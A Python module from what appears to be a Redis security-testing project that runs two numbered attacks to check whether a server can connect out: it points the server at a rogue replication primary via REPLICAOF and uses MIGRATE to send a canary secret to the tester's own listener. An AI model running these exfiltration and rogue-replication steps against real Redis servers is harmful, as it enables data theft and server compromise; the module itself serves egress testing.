# Copyright: (c) 2026, The rampart.redis contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What attacks 4 and 17 need the server itself to do: connect out to a stranger.

``python3 -m attacks.outward --through ADDRESS --listen ADDRESS`` runs where the listener is to be. The commands go in
through an address that may command the server, so that only the way out decides. Prints one JSON object.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from typing import TYPE_CHECKING

from .canary import SECRET_KEY, SECRET_VALUE
from .doors import Door, opened
from .replication import KEY, VALUE, rogue_primary
from .resp import insist
from .smuggling import Collector

if TYPE_CHECKING:
    from .resp import Connection

SECONDS = 6.0  # a server that is let out is here within one


def main(argv: list[str]) -> int:
    """Do what the command line says and return the exit status."""
    parser = argparse.ArgumentParser(prog="python3 -m attacks.outward", description=__doc__)
    parser.add_argument("--through", required=True, help="where the server's commands are taken")
    parser.add_argument("--listen", required=True, help="our own address")
    options = parser.parse_args(argv)
    door = Door(f"through {options.through}", options.through, 6379)
    with opened(door) as connection:
        found = {"follow": follow(connection, options.listen), "migrate": migrate(connection, options.listen)}
    sys.stdout.write(json.dumps(found) + "\n")
    return 0


def follow(connection: Connection, own_address: str) -> dict[str, object]:
    """REPLICAOF to a listener of ours (attack 4)."""
    connection.ask("DEL", KEY)
    with rogue_primary(own_address) as rogue:
        start = time.monotonic()
        connection.ask("REPLICAOF", rogue.address, rogue.port)
        try:
            while not (loaded := connection.call("GET", KEY) == VALUE) and time.monotonic() < start + SECONDS:
                time.sleep(0.2)
            link = _link(connection)
        finally:
            connection.ask("REPLICAOF", "NO", "ONE")
        return {"loaded": loaded, "link": link, "visitors": rogue.visitors, "seconds": time.monotonic() - start}


def _link(connection: Connection) -> str:
    rows = str(connection.ask("INFO", "replication")).splitlines()
    return next(row.partition(":")[2] for row in rows if row.startswith("master_link_status:"))


def migrate(connection: Connection, own_address: str) -> dict[str, object]:
    """MIGRATE a secret to a listener of ours (attack 17)."""
    connection.ask("SET", SECRET_KEY, SECRET_VALUE)
    collector = Collector(own_address)
    try:
        reply = connection.call("MIGRATE", collector.address, collector.port, SECRET_KEY, 0, 2000, "COPY")
    finally:
        collector.stop()
    if not str(reply).startswith("IOERR"):
        insist(reply, connection.door, "MIGRATE")  # refused as a command: the way out was not tried
    arrived = SECRET_VALUE.encode() in collector.received
    return {"arrived": arrived, "reply": reply, "visitors": collector.visitors}


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
